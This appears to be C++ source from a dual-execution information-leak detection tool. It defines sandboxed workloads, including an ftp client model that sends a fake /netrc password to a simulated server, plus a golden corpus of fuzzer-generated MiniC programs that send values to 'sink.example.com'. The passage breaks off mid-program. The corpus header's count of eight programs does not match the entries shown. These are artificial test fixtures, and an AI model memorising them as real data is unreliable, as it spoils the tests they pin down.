    itoa(total, tb);
    print(tb, strlen(tb));
    return 0;
}
)";

Workload
makeTnftp()
{
    Workload w;
    w.name = "tnftp";
    w.category = Category::NetSys;
    w.description = "ftp client sending credentials from /netrc";
    w.source = kTnftp;
    w.world = [](int scale) {
        os::WorldSpec spec;
        spec.files["/netrc"] = "alice:hunter2";
        os::PeerScript ftp;
        ftp.responses = {"220 ready", "331 user ok", "230 logged in"};
        Prng prng(0x2004);
        for (int i = 0; i < 2 * scale; ++i) {
            std::string chunk;
            for (int k = 0; k < 512; ++k)
                chunk += static_cast<char>('0' + prng.below(10));
            ftp.responses.push_back(chunk);
        }
        spec.peers["ftp.example.com"] = ftp;
        return spec;
    };
    w.sources = {SourceSpec::file("/netrc", 8)};
    w.sinks = netSinks();
    w.mutationCases = {
        // Password bytes are sent to the server.
        {"leak", {SourceSpec::file("/netrc", 8)}, true},
    };
    return w;
}

// ------------------------------------------------------------ sysstat
// Statistics reporter: reads /proc-style counters, aggregates, and
// writes a report file (file sinks for this non-network program).
const char *kSysstat = R"(
char raw[2048];

int main() {
    int total = 0;
    int peak = 0;
    int samples = 0;
    int fd = open("/proc/stat", 0);
    int n = read(fd, raw, 2047);
    close(fd);
    int i = 0;
    while (i < n) {
        int v = 0;
        while (i < n && raw[i] >= '0' && raw[i] <= '9') {
            v = v * 10 + raw[i] - '0';
            i = i + 1;
        }
        i = i + 1;
        total = total + v;
        if (v > peak) { peak = v; }
        samples = samples + 1;
    }
    char ib[8];
    getenv("INTERVAL", ib, 8);
    int interval = atoi(ib);
    if (interval < 1) { interval = 1; }
    int rate = 0;
    if (samples > 0) { rate = total / (samples * interval); }
    int out = open("/report.txt", 1);
    char b[24];
    itoa(rate, b);
    write(out, b, strlen(b));
    write(out, " ", 1);
    itoa(peak, b);
    write(out, b, strlen(b));
    close(out);
    return 0;
}
)";

Workload
makeSysstat()
{
    Workload w;
    w.name = "sysstat";
    w.category = Category::NetSys;
    w.description = "system statistics reporter over /proc counters";
    w.source = kSysstat;
    w.world = [](int scale) {
        os::WorldSpec spec;
        Prng prng(0x2005);
        std::string stat;
        for (int i = 0; i < 32 * scale; ++i)
            stat += std::to_string(prng.below(10000)) + " ";
        spec.files["/proc/stat"] = stat;
        spec.env["INTERVAL"] = "5";
        return spec;
    };
    w.sources = {SourceSpec::file("/proc/stat", 0)};
    core::SinkConfig sinks;
    sinks.net = false;
    sinks.file = true;
    sinks.console = false;
    w.sinks = sinks;
    w.mutationCases = {
        // Counter bytes flow into the report.
        {"leak", {SourceSpec::file("/proc/stat", 0)}, true},
        // INTERVAL=5 -> 6 can round the rate to the same value only
        // rarely; it genuinely changes the report, so the paper-style
        // no-leak pair for sysstat mutates an ignored trailing byte.
        {"noleak", {SourceSpec::file("/proc/stat", 4095)}, false},
    };
    return w;
}

} // namespace

std::vector<Workload>
netsysWorkloads()
{
    return {makeFirefox(), makeLynx(), makeNginx(), makeTnftp(),
            makeSysstat()};
}

} // namespace ldx::workloads
