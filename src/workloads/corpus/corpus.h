/**
 * @file
 * The promoted golden corpus (docs/CAMPAIGN.md "Golden corpus").
 *
 * Eight fuzzer-generated MiniC programs promoted from their seeds
 * into checked-in fixtures, each paired with a golden campaign graph
 * (`src/workloads/corpus/<name>.golden.json`). They freeze the whole
 * pipeline end to end — generator rendering, front end,
 * instrumentation, baseline enumeration, dual execution under every
 * policy, and graph aggregation: any change to any stage that
 * perturbs a campaign graph shows up as a byte diff against the
 * golden. The snapshot/fork path must reproduce the same goldens
 * (tests/workloads_test.cc), so the corpus also pins the
 * snapshot-equality wall to fixed artifacts.
 *
 * The programs were picked for shape diversity: 2–4 queryable
 * sources, zero through four causal edges, single- and
 * multi-threaded guests. The source text is checked in verbatim (the
 * generator may evolve; the corpus must not drift with it), but each
 * entry keeps its originating seed because the world — /input.txt
 * bytes, /data.bin, the FUZZ env var, peer scripts — is still
 * derived via fuzz::ProgramGenerator::worldFor(seed).
 *
 * Regenerating goldens after an *intentional* graph change: rebuild,
 * run the corpus campaign per entry, and overwrite the .golden.json
 * files; the diff is the reviewable artifact.
 */
#pragma once

#include <cstdint>
#include <string>
#include <vector>

namespace ldx::workloads {

/** One promoted corpus program. */
struct CorpusEntry
{
    /** Stable name; the golden graph lives at <name>.golden.json. */
    std::string name;

    /** Originating generator seed (world derivation only). */
    std::uint64_t seed = 0;

    /** The promoted MiniC program, verbatim. */
    std::string source;
};

/** All promoted corpus entries, in name order. */
const std::vector<CorpusEntry> &corpusEntries();

} // namespace ldx::workloads
