/**
 * @file
 * Promoted golden-corpus programs (see corpus.h). Source text is
 * frozen — regenerating from the seeds is NOT equivalent once the
 * generator's grammar moves.
 */
#include "workloads/corpus/corpus.h"

namespace ldx::workloads {

const std::vector<CorpusEntry> &
corpusEntries()
{
    static const std::vector<CorpusEntry> entries = {
        {
            "s002",
            2,
            R"__corpus__(char inputv[64];
int acc;
int arr[16];
char scratch[32];
int shared0;
int shared1;

int worker0(int p) {
    int k = 0;
    while (k < (p & 3) + 1) {
        lock(0);
        shared0 = shared0 + p + k + 16;
        unlock(0);
        k = k + 1;
    }
    return 0;
}

int rec1(int n) {
    if (n <= 0) { return 0; }
    time();
    return n + rec2(n - 1);
}

int rec2(int n) {
    if (n <= 0) { return 1; }
    return n + rec1(n - 2);
}

int helper0(int p) {
    int save = acc;
    acc = p;
    acc = (acc ^ (acc + 75));
    {
        int fd0 = open("/data.bin", 0);
        char t0[8];
        int r0 = read(fd0, t0, 7);
        acc = acc + r0 + t0[((arr[5] - 78)) & 7];
        close(fd0);
    }
    int r = acc;
    acc = save;
    return r % 1000;
}

int helper1(int p) {
    int save = acc;
    acc = p;
    acc = acc + helper0((((inputv[9] - inputv[36]) * 5)) & 63);
    int r = acc;
    acc = save;
    return r % 1000;
}

int helper2(int p) {
    int save = acc;
    acc = p;
    {
        int fd1 = open("/data.bin", 0);
        char t1[8];
        int r1 = read(fd1, t1, 7);
        acc = acc + r1 + t1[(((arr[10] ^ acc) * 1)) & 7];
        close(fd1);
    }
    int r = acc;
    acc = save;
    return r % 1000;
}

int main() {
    {
        int fd = open("/input.txt", 0);
        int n = read(fd, inputv, 63);
        close(fd);
        acc = n;
    }
    {
        int d2 = 7;
        do {
            arr[(((acc * 4) ^ (inputv[17] & 62))) & 15] = ((acc - 52) + acc);
            acc = acc + helper2(((40 - acc)) & 63);
            {
                int *p3 = arr + ((((arr[12] * 2) & 197)) & 15);
                *p3 = *p3 + 1;
                acc = acc + *p3;
            }
            acc = acc;
            d2 = d2 - 1;
        } while (d2 > 0);
    }
    arr[((35 ^ (acc >> 3))) & 15] = acc;
    {
        itoa(acc % 100000, scratch);
        int s = socket();
        connect(s, "sink.example.com");
        send(s, scratch, strlen(scratch));
    }
    return 0;
}

)__corpus__",
        },
        {
            "s006",
            6,
            R"__corpus__(char inputv[64];
int acc;
int arr[16];
char scratch[32];
int shared0;
int shared1;

int worker0(int p) {
    int k = 0;
    while (k < (p & 3) + 1) {
        lock(0);
        shared0 = shared0 + p + k + 8;
        unlock(0);
        yield();
        k = k + 1;
    }
    return 0;
}

int rec1(int n) {
    if (n <= 0) { return 0; }
    time();
    return n + rec2(n - 1);
}

int rec2(int n) {
    if (n <= 0) { return 1; }
    return n + rec1(n - 2);
}

int helper0(int p) {
    int save = acc;
    acc = p;
    {
        int *p0 = &acc;
        *p0 = *p0 ^ 17;
    }
    if (inputv[33] > 57) {
        acc = acc + arr[(acc) & 15];
    } else {
        acc = acc + time() % 7;
        inputv[(9) & 63] = (inputv[47]) & 127;
        {
            char ev1[16];
            getenv("FUZZ", ev1, 15);
            acc = acc + ev1[(((30 % 97) & 23)) & 15];
        }
    }
    {
        char *m2 = malloc(16);
        memset(m2, (((acc ^ acc) + (60 - inputv[37]))) & 255, 16);
        m2[(((acc ^ acc) & 163)) & 15] = (87) & 127;
        acc = acc + m2[((arr[11] % 40)) & 15];
        free(m2);
    }
    {
        char ev3[16];
        getenv("FUZZ", ev3, 15);
        acc = acc + ev3[(((acc - arr[5]) ^ (arr[0] + inputv[34]))) & 15];
    }
    int r = acc;
    acc = save;
    return r % 1000;
}

int helper1(int p) {
    int save = acc;
    acc = p;
    inputv[(arr[3]) & 63] = (acc) & 127;
    int r = acc;
    acc = save;
    return r % 1000;
}

int helper2(int p) {
    int save = acc;
    acc = p;
    if ((((arr[13] - 62) ^ (inputv[44] % 97))) < (arr[4])) {
        acc = acc + getpid() % 13;
        {
            int fd4 = open("/data.bin", 0);
            char t4[8];
            int r4 = read(fd4, t4, 7);
            acc = acc + r4 + t4[(inputv[21]) & 7];
            close(fd4);
        }
    }
    acc = acc + helper0((((acc - inputv[44]) & 132)) & 63);
    inputv[((acc * 2)) & 63] = (inputv[37]) & 127;
    acc = (7 + inputv[34]);
    int r = acc;
    acc = save;
    return r % 1000;
}

int main() {
    {
        int fd = open("/input.txt", 0);
        int n = read(fd, inputv, 63);
        close(fd);
        acc = n;
    }
    if (inputv[11] > 45) {
        {
            int fd5 = open("/out2.log", 1);
            itoa(acc & 65535, scratch);
            write(fd5, scratch, strlen(scratch));
            close(fd5);
        }
        {
            char *p6 = inputv + ((arr[8]) & 63);
            acc = acc + *p6;
        }
        acc = ((acc >> 2) - acc);
        arr[(((inputv[5] - arr[2]) * 3)) & 15] = 79;
    } else {
        {
            int fd7 = open("/data.bin", 0);
            char t7[8];
            int r7 = read(fd7, t7, 7);
            acc = acc + r7 + t7[(((arr[15] >> 1) & 246)) & 7];
            close(fd7);
        }
        {
            char *m8 = malloc(16);
            memset(m8, (((acc ^ arr[6]) >> 3)) & 255, 16);
            m8[(((arr[14] & 142) - (acc % 80))) & 15] = (acc) & 127;
            acc = acc + m8[((85 >> 4)) & 15];
            free(m8);
        }
    }
    acc = (72 - acc);
    acc = (inputv[36] + acc);
    if ((((37 * 5)) & 1) == 0) {
        acc = acc + time() % 7;
    } else {
        {
            int *p9 = &acc;
            *p9 = *p9 ^ 37;
        }
        {
            fn f10 = &helper0;
            acc = acc + f10((80) & 63);
        }
        acc = acc ^ (rdtsc() & 255);
        inputv[(acc) & 63] = (2) & 127;
    }
    {
        itoa(acc % 100000, scratch);
        int s = socket();
        connect(s, "sink.example.com");
        send(s, scratch, strlen(scratch));
    }
    return 0;
}

)__corpus__",
        },
        {
            "s007",
            7,
            R"__corpus__(char inputv[64];
int acc;
int arr[16];
char scratch[32];
int shared0;
int shared1;

int worker0(int p) {
    int k = 0;
    while (k < (p & 3) + 1) {
        lock(0);
        shared0 = shared0 + p + k + 3;
        unlock(0);
        yield();
        k = k + 1;
    }
    return 0;
}

int worker1(int p) {
    int k = 0;
    while (k < (p & 3) + 1) {
        lock(1);
        shared1 = shared1 + p + k + 5;
        unlock(1);
        yield();
        k = k + 1;
    }
    return 0;
}

int rec1(int n) {
    if (n <= 0) { return 0; }
    time();
    return n + rec2(n - 1);
}

int rec2(int n) {
    if (n <= 0) { return 1; }
    return n + rec1(n - 2);
}

int helper0(int p) {
    int save = acc;
    acc = p;
    inputv[(acc) & 63] = (arr[12]) & 127;
    if ((((inputv[40] - (arr[15] + acc))) & 1) == 0) {
        acc = acc ^ (rdtsc() & 255);
        acc = acc + rec1(inputv[44] & 7);
        arr[(((33 * 4) >> 3)) & 15] = 68;
    } else {
        acc = (30 + (acc + 67));
        {
            int *p0 = &acc;
            *p0 = *p0 ^ 39;
        }
        acc = acc;
        acc = ((47 + inputv[5]) ^ (inputv[17] & 170));
    }
    acc = 34;
    int r = acc;
    acc = save;
    return r % 1000;
}

int main() {
    {
        int fd = open("/input.txt", 0);
        int n = read(fd, inputv, 63);
        close(fd);
        acc = n;
    }
    acc = arr[6];
    if (inputv[8] > 81) {
        {
            int t1_0 = spawn(&worker1, (((acc % 27) & 1)) & 7);
            join(t1_0);
            acc = acc + shared0 + shared1;
        }
        {
            int t2_0 = spawn(&worker0, (acc) & 7);
            int t2_1 = spawn(&worker1, (inputv[22]) & 7);
            join(t2_0);
            join(t2_1);
            acc = acc + shared0 + shared1;
        }
    } else {
        {
            int fd3 = open("/data.bin", 0);
            char t3[8];
            int r3 = read(fd3, t3, 7);
            acc = acc + r3 + t3[(((shared0 >> 4) >> 4)) & 7];
            close(fd3);
        }
    }
    {
        char ev4[16];
        getenv("FUZZ", ev4, 15);
        acc = acc + ev4[((arr[14] >> 3)) & 15];
    }
    {
        int d5 = (inputv[1] & 7) + 1;
        do {
            acc = acc + helper0((((acc % 12) * 3)) & 63);
            d5 = d5 - 1;
        } while (d5 > 0);
    }
    {
        itoa(acc % 100000, scratch);
        int s = socket();
        connect(s, "sink.example.com");
        send(s, scratch, strlen(scratch));
    }
    return 0;
}

)__corpus__",
        },
        {
            "s014",
            14,
            R"__corpus__(char inputv[64];
int acc;
int arr[16];
char scratch[32];
int shared0;
int shared1;

int worker0(int p) {
    int k = 0;
    while (k < (p & 3) + 1) {
        lock(0);
        shared0 = shared0 + p + k + 14;
        unlock(0);
        yield();
        k = k + 1;
    }
    return 0;
}

int rec1(int n) {
    if (n <= 0) { return 0; }
    time();
    return n + rec2(n - 1);
}

int rec2(int n) {
    if (n <= 0) { return 1; }
    return n + rec1(n - 2);
}

int helper0(int p) {
    int save = acc;
    acc = p;
    {
        char *m0 = malloc(16);
        memset(m0, (71) & 255, 16);
        m0[(acc) & 15] = ((acc % 28)) & 127;
        acc = acc + m0[(((acc ^ 76) * 3)) & 15];
        free(m0);
    }
    acc = arr[8];
    if (inputv[6] > 49) {
        arr[(((acc ^ arr[15]) % 33)) & 15] = acc;
        {
            int fd1 = open("/data.bin", 0);
            char t1[8];
            int r1 = read(fd1, t1, 7);
            acc = acc + r1 + t1[(acc) & 7];
            close(fd1);
        }
    }
    acc = acc + rec2(inputv[32] & 7);
    int r = acc;
    acc = save;
    return r % 1000;
}

int main() {
    {
        int fd = open("/input.txt", 0);
        int n = read(fd, inputv, 63);
        close(fd);
        acc = n;
    }
    {
        int fd2 = open("/data.bin", 0);
        char t2[8];
        int r2 = read(fd2, t2, 7);
        acc = acc + r2 + t2[((inputv[35] + (acc + inputv[41]))) & 7];
        close(fd2);
    }
    {
        int s3 = socket();
        connect(s3, "feed.example.com");
        char rb3[16];
        int r3 = recv(s3, rb3, 15);
        acc = acc + r3;
        if (r3 > 0) { acc = acc + rb3[(acc) & 15]; }
        close(s3);
    }
    {
        itoa(acc % 100000, scratch);
        int s = socket();
        connect(s, "sink.example.com");
        send(s, scratch, strlen(scratch));
    }
    return 0;
}

)__corpus__",
        },
        {
            "s018",
            18,
            R"__corpus__(char inputv[64];
int acc;
int arr[16];
char scratch[32];
int shared0;
int shared1;

int worker0(int p) {
    int k = 0;
    while (k < (p & 3) + 1) {
        lock(0);
        shared0 = shared0 + p + k + 0;
        unlock(0);
        yield();
        k = k + 1;
    }
    return 0;
}

int rec1(int n) {
    if (n <= 0) { return 0; }
    time();
    return n + rec2(n - 1);
}

int rec2(int n) {
    if (n <= 0) { return 1; }
    return n + rec1(n - 2);
}

int helper0(int p) {
    int save = acc;
    acc = p;
    acc = acc + rec1(inputv[38] & 7);
    {
        int *p0 = arr + (((inputv[13] + (acc % 30))) & 15);
        *p0 = *p0 + 22;
        acc = acc + *p0;
    }
    acc = inputv[35];
    int r = acc;
    acc = save;
    return r % 1000;
}

int main() {
    {
        int fd = open("/input.txt", 0);
        int n = read(fd, inputv, 63);
        close(fd);
        acc = n;
    }
    acc = acc + rec2(inputv[46] & 7);
    {
        char ev1[16];
        getenv("FUZZ", ev1, 15);
        acc = acc + ev1[(((42 & 61) >> 1)) & 15];
    }
    acc = arr[13];
    {
        itoa(acc % 100000, scratch);
        int s = socket();
        connect(s, "sink.example.com");
        send(s, scratch, strlen(scratch));
    }
    return 0;
}

)__corpus__",
        },
        {
            "s020",
            20,
            R"__corpus__(char inputv[64];
int acc;
int arr[16];
char scratch[32];
int shared0;
int shared1;

int worker0(int p) {
    int k = 0;
    while (k < (p & 3) + 1) {
        lock(0);
        shared0 = shared0 + p + k + 16;
        unlock(0);
        k = k + 1;
    }
    return 0;
}

int rec1(int n) {
    if (n <= 0) { return 0; }
    time();
    return n + rec2(n - 1);
}

int rec2(int n) {
    if (n <= 0) { return 1; }
    return n + rec1(n - 2);
}

int helper0(int p) {
    int save = acc;
    acc = p;
    acc = inputv[12];
    acc = acc + time() % 7;
    if (inputv[45] > 81) {
        {
            int *p0 = arr + ((((inputv[7] >> 2) >> 2)) & 15);
            *p0 = *p0 + 26;
            acc = acc + *p0;
        }
        {
            int *p1 = arr + (((arr[8] % 76)) & 15);
            *p1 = *p1 + 12;
            acc = acc + *p1;
        }
        {
            int *p2 = &acc;
            *p2 = *p2 ^ 59;
        }
        {
            int fd3 = open("/data.bin", 0);
            char t3[8];
            int r3 = read(fd3, t3, 7);
            acc = acc + r3 + t3[((acc & 64)) & 7];
            close(fd3);
        }
    } else {
        {
            char ev4[16];
            getenv("FUZZ", ev4, 15);
            acc = acc + ev4[(acc) & 15];
        }
    }
    arr[(19) & 15] = ((acc % 20) + (arr[15] % 77));
    int r = acc;
    acc = save;
    return r % 1000;
}

int helper1(int p) {
    int save = acc;
    acc = p;
    if (((inputv[33] >> 1)) < (17)) {
        acc = acc + getpid() % 13;
        {
            char *p5 = inputv + (((acc - acc)) & 63);
            acc = acc + *p5;
        }
    }
    {
        int fd6 = open("/out0.log", 1);
        itoa(acc & 65535, scratch);
        write(fd6, scratch, strlen(scratch));
        close(fd6);
    }
    {
        int s7 = socket();
        connect(s7, "feed.example.com");
        char rb7[16];
        int r7 = recv(s7, rb7, 15);
        acc = acc + r7;
        if (r7 > 0) { acc = acc + rb7[(((56 & 154) >> 4)) & 15]; }
        close(s7);
    }
    {
        fn f8 = &helper0;
        acc = acc + f8((arr[11]) & 63);
    }
    int r = acc;
    acc = save;
    return r % 1000;
}

int helper2(int p) {
    int save = acc;
    acc = p;
    acc = ((acc ^ acc) + acc);
    acc = acc + helper0((((inputv[47] >> 3) >> 1)) & 63);
    int r = acc;
    acc = save;
    return r % 1000;
}

int main() {
    {
        int fd = open("/input.txt", 0);
        int n = read(fd, inputv, 63);
        close(fd);
        acc = n;
    }
    acc = acc;
    {
        char ev9[16];
        getenv("FUZZ", ev9, 15);
        acc = acc + ev9[(((inputv[13] + acc) + (acc - 97))) & 15];
    }
    {
        int fd10 = open("/out2.log", 1);
        itoa(acc & 65535, scratch);
        write(fd10, scratch, strlen(scratch));
        close(fd10);
    }
    {
        int t11_0 = spawn(&worker0, (inputv[8]) & 7);
        int t11_1 = spawn(&worker0, (36) & 7);
        join(t11_0);
        join(t11_1);
        acc = acc + shared0 + shared1;
    }
    {
        itoa(acc % 100000, scratch);
        int s = socket();
        connect(s, "sink.example.com");
        send(s, scratch, strlen(scratch));
    }
    return 0;
}

)__corpus__",
        },
        {
            "s040",
            40,
            R"__corpus__(char inputv[64];
int acc;
int arr[16];
char scratch[32];
int shared0;
int shared1;

int worker0(int p) {
    int k = 0;
    while (k < (p & 3) + 1) {
        lock(0);
        shared0 = shared0 + p + k + 8;
        unlock(0);
        yield();
        k = k + 1;
    }
    return 0;
}

int rec1(int n) {
    if (n <= 0) { return 0; }
    time();
    return n + rec2(n - 1);
}

int rec2(int n) {
    if (n <= 0) { return 1; }
    return n + rec1(n - 2);
}

int helper0(int p) {
    int save = acc;
    acc = p;
    inputv[(((acc - acc) - (acc ^ 73))) & 63] = (arr[8]) & 127;
    acc = acc ^ (rdtsc() & 255);
    acc = ((18 + arr[1]) - acc);
    int r = acc;
    acc = save;
    return r % 1000;
}

int helper1(int p) {
    int save = acc;
    acc = p;
    acc = acc + helper0((((arr[8] * 4) >> 4)) & 63);
    {
        int s0 = socket();
        connect(s0, "feed.example.com");
        char rb0[16];
        int r0 = recv(s0, rb0, 15);
        acc = acc + r0;
        if (r0 > 0) { acc = acc + rb0[(arr[12]) & 15]; }
        close(s0);
    }
    int r = acc;
    acc = save;
    return r % 1000;
}

int helper2(int p) {
    int save = acc;
    acc = p;
    {
        int fd1 = open("/data.bin", 0);
        char t1[8];
        int r1 = read(fd1, t1, 7);
        acc = acc + r1 + t1[(acc) & 7];
        close(fd1);
    }
    if ((acc) % 6 == 0) {
        arr[(acc) & 15] = ((acc + inputv[1]) + (arr[8] % 18));
        {
            int fd2 = open("/data.bin", 0);
            char t2[8];
            int r2 = read(fd2, t2, 7);
            acc = acc + r2 + t2[(inputv[33]) & 7];
            close(fd2);
        }
        acc = acc + getpid() % 13;
        acc = (acc - acc);
    }
    acc = acc + time() % 7;
    int r = acc;
    acc = save;
    return r % 1000;
}

int main() {
    {
        int fd = open("/input.txt", 0);
        int n = read(fd, inputv, 63);
        close(fd);
        acc = n;
    }
    {
        int s3 = socket();
        connect(s3, "feed.example.com");
        char rb3[16];
        int r3 = recv(s3, rb3, 15);
        acc = acc + r3;
        if (r3 > 0) { acc = acc + rb3[(((acc - acc) + 71)) & 15]; }
        close(s3);
    }
    {
        int fd4 = open("/data.bin", 0);
        char t4[8];
        int r4 = read(fd4, t4, 7);
        acc = acc + r4 + t4[(((acc >> 4) ^ (acc % 55))) & 7];
        close(fd4);
    }
    {
        char ev5[16];
        getenv("FUZZ", ev5, 15);
        acc = acc + ev5[(inputv[0]) & 15];
    }
    {
        itoa(acc % 100000, scratch);
        int s = socket();
        connect(s, "sink.example.com");
        send(s, scratch, strlen(scratch));
    }
    return 0;
}

)__corpus__",
        },
        {
            "s059",
            59,
            R"__corpus__(char inputv[64];
int acc;
int arr[16];
char scratch[32];
int shared0;
int shared1;

int worker0(int p) {
    int k = 0;
    while (k < (p & 3) + 1) {
        lock(0);
        shared0 = shared0 + p + k + 9;
        unlock(0);
        k = k + 1;
    }
    return 0;
}

int rec1(int n) {
    if (n <= 0) { return 0; }
    time();
    return n + rec2(n - 1);
}

int rec2(int n) {
    if (n <= 0) { return 1; }
    return n + rec1(n - 2);
}

int helper0(int p) {
    int save = acc;
    acc = p;
    {
        int fd0 = open("/data.bin", 0);
        char t0[8];
        int r0 = read(fd0, t0, 7);
        acc = acc + r0 + t0[(((inputv[18] ^ inputv[0]) * 2)) & 7];
        close(fd0);
    }
    int r = acc;
    acc = save;
    return r % 1000;
}

int helper1(int p) {
    int save = acc;
    acc = p;
    {
        int s1 = socket();
        connect(s1, "sink.example.com");
        itoa(acc & 4095, scratch);
        send(s1, scratch, strlen(scratch));
        close(s1);
    }
    {
        int fd2 = open("/data.bin", 0);
        char t2[8];
        int r2 = read(fd2, t2, 7);
        acc = acc + r2 + t2[(((acc * 3) & 23)) & 7];
        close(fd2);
    }
    acc = acc;
    int r = acc;
    acc = save;
    return r % 1000;
}

int helper2(int p) {
    int save = acc;
    acc = p;
    {
        int d3 = 4;
        do {
            {
                int s4 = socket();
                connect(s4, "feed.example.com");
                char rb4[16];
                int r4 = recv(s4, rb4, 15);
                acc = acc + r4;
                if (r4 > 0) { acc = acc + rb4[(arr[11]) & 15]; }
                close(s4);
            }
            acc = acc + rec1(inputv[2] & 7);
            acc = acc ^ (rdtsc() & 255);
            d3 = d3 - 1;
        } while (d3 > 0);
    }
    if ((inputv[42]) % 6 == 1) {
        acc = acc + arr[(64) & 15];
        {
            int s5 = socket();
            connect(s5, "feed.example.com");
            char rb5[16];
            int r5 = recv(s5, rb5, 15);
            acc = acc + r5;
            if (r5 > 0) { acc = acc + rb5[(inputv[6]) & 15]; }
            close(s5);
        }
        acc = acc + helper1((((inputv[8] % 95) % 43)) & 63);
    } else {
        {
            int fd6 = open("/data.bin", 0);
            char t6[8];
            int r6 = read(fd6, t6, 7);
            acc = acc + r6 + t6[(((acc & 2) * 4)) & 7];
            close(fd6);
        }
        acc = 3;
    }
    int r = acc;
    acc = save;
    return r % 1000;
}

int main() {
    {
        int fd = open("/input.txt", 0);
        int n = read(fd, inputv, 63);
        close(fd);
        acc = n;
    }
    {
        int s7 = socket();
        connect(s7, "feed.example.com");
        char rb7[16];
        int r7 = recv(s7, rb7, 15);
        acc = acc + r7;
        if (r7 > 0) { acc = acc + rb7[(acc) & 15]; }
        close(s7);
    }
    {
        int t8_0 = spawn(&worker0, ((63 % 3)) & 7);
        int t8_1 = spawn(&worker0, ((shared1 >> 3)) & 7);
        join(t8_0);
        join(t8_1);
        acc = acc + shared0 + shared1;
    }
    acc = ((acc ^ shared0) & 245);
    {
        itoa(acc % 100000, scratch);
        int s = socket();
        connect(s, "sink.example.com");
        send(s, scratch, strlen(scratch));
    }
    return 0;
}

)__corpus__",
        },
        {
            "s061",
            61,
            R"__corpus__(char inputv[64];
int acc;
int arr[16];
char scratch[32];
int shared0;
int shared1;

int worker0(int p) {
    int k = 0;
    while (k < (p & 3) + 1) {
        lock(0);
        shared0 = shared0 + p + k + 0;
        unlock(0);
        k = k + 1;
    }
    return 0;
}

int worker1(int p) {
    int k = 0;
    while (k < (p & 3) + 1) {
        lock(1);
        shared1 = shared1 + p + k + 16;
        unlock(1);
        yield();
        k = k + 1;
    }
    return 0;
}

int rec1(int n) {
    if (n <= 0) { return 0; }
    time();
    return n + rec2(n - 1);
}

int rec2(int n) {
    if (n <= 0) { return 1; }
    return n + rec1(n - 2);
}

int helper0(int p) {
    int save = acc;
    acc = p;
    {
        int s0 = socket();
        connect(s0, "sink.example.com");
        itoa(acc & 4095, scratch);
        send(s0, scratch, strlen(scratch));
        close(s0);
    }
    if (((inputv[31]) & 1) == 0) {
        acc = acc + getpid() % 13;
    } else {
        {
            int fd1 = open("/data.bin", 0);
            char t1[8];
            int r1 = read(fd1, t1, 7);
            acc = acc + r1 + t1[((75 ^ (acc - inputv[6]))) & 7];
            close(fd1);
        }
        acc = acc;
        acc = ((acc & 9) - (inputv[42] ^ acc));
    }
    acc = (acc * 3);
    acc = inputv[19];
    int r = acc;
    acc = save;
    return r % 1000;
}

int helper1(int p) {
    int save = acc;
    acc = p;
    acc = acc + helper0((((arr[7] + arr[9]) % 61)) & 63);
    {
        int s2 = socket();
        connect(s2, "feed.example.com");
        char rb2[16];
        int r2 = recv(s2, rb2, 15);
        acc = acc + r2;
        if (r2 > 0) { acc = acc + rb2[(50) & 15]; }
        close(s2);
    }
    int r = acc;
    acc = save;
    return r % 1000;
}

int helper2(int p) {
    int save = acc;
    acc = p;
    arr[(28) & 15] = ((inputv[33] + inputv[16]) >> 4);
    acc = (acc + (34 >> 2));
    acc = acc ^ (random() % 1000);
    int r = acc;
    acc = save;
    return r % 1000;
}

int main() {
    {
        int fd = open("/input.txt", 0);
        int n = read(fd, inputv, 63);
        close(fd);
        acc = n;
    }
    {
        fn f3 = &helper0;
        acc = acc + f3((inputv[6]) & 63);
    }
    {
        int w4 = 4;
        while (w4 > 0) {
            acc = 95;
            {
                char *m5 = malloc(16);
                memset(m5, (((inputv[8] ^ acc) % 18)) & 255, 16);
                m5[((arr[2] ^ (81 ^ acc))) & 15] = ((inputv[21] & 13)) & 127;
                acc = acc + m5[((acc + (arr[8] % 51))) & 15];
                free(m5);
            }
            acc = acc + rec1(inputv[45] & 7);
            {
                int d6 = 7;
                do {
                    acc = acc + arr[(acc) & 15];
                    acc = acc + rec1(inputv[7] & 7);
                    d6 = d6 - 1;
                } while (d6 > 0);
            }
            w4 = w4 - 1;
        }
    }
    {
        int t7_0 = spawn(&worker0, (arr[4]) & 7);
        int t7_1 = spawn(&worker0, (shared1) & 7);
        join(t7_0);
        join(t7_1);
        acc = acc + shared0 + shared1;
    }
    {
        itoa(acc % 100000, scratch);
        int s = socket();
        connect(s, "sink.example.com");
        send(s, scratch, strlen(scratch));
    }
    return 0;
}

)__corpus__",
        },
        {
            "s092",
            92,
            R"__corpus__(char inputv[64];
int acc;
int arr[16];
char scratch[32];
int shared0;
int shared1;

int worker0(int p) {
    int k = 0;
    while (k < (p & 3) + 1) {
        lock(0);
        shared0 = shared0 + p + k + 12;
        unlock(0);
        k = k + 1;
    }
    return 0;
}

int worker1(int p) {
    int k = 0;
    while (k < (p & 3) + 1) {
        lock(1);
        shared1 = shared1 + p + k + 19;
        unlock(1);
        k = k + 1;
    }
    return 0;
}

int rec1(int n) {
    if (n <= 0) { return 0; }
    time();
    return n + rec2(n - 1);
}

int rec2(int n) {
    if (n <= 0) { return 1; }
    return n + rec1(n - 2);
}

int helper0(int p) {
    int save = acc;
    acc = p;
    {
        int s0 = socket();
        connect(s0, "sink.example.com");
        itoa(acc & 4095, scratch);
        send(s0, scratch, strlen(scratch));
        close(s0);
    }
    acc = (acc ^ (76 ^ 35));
    acc = ((94 ^ 98) & 52);
    {
        int s1 = socket();
        connect(s1, "sink.example.com");
        itoa(acc & 4095, scratch);
        send(s1, scratch, strlen(scratch));
        close(s1);
    }
    int r = acc;
    acc = save;
    return r % 1000;
}

int helper1(int p) {
    int save = acc;
    acc = p;
    acc = acc + helper0((acc) & 63);
    int r = acc;
    acc = save;
    return r % 1000;
}

int main() {
    {
        int fd = open("/input.txt", 0);
        int n = read(fd, inputv, 63);
        close(fd);
        acc = n;
    }
    if ((((acc - acc)) & 1) == 0) {
        if (((((acc * 4) >> 3)) & 1) == 0) {
            acc = acc ^ (rdtsc() & 255);
            acc = acc ^ (rdtsc() & 255);
            {
                char *m2 = malloc(16);
                memset(m2, (((inputv[25] + inputv[7]) - arr[10])) & 255, 16);
                m2[(((8 % 53) ^ acc)) & 15] = ((acc & 84)) & 127;
                acc = acc + m2[((arr[9] & 77)) & 15];
                free(m2);
            }
            {
                char *m3 = malloc(16);
                memset(m3, (99) & 255, 16);
                m3[((acc + (acc ^ inputv[33]))) & 15] = (((acc * 3) % 86)) & 127;
                acc = acc + m3[(arr[12]) & 15];
                free(m3);
            }
        } else {
            acc = ((acc ^ acc) + arr[2]);
            inputv[(((acc * 1) + (inputv[44] % 68))) & 63] = ((arr[14] ^ 67)) & 127;
            {
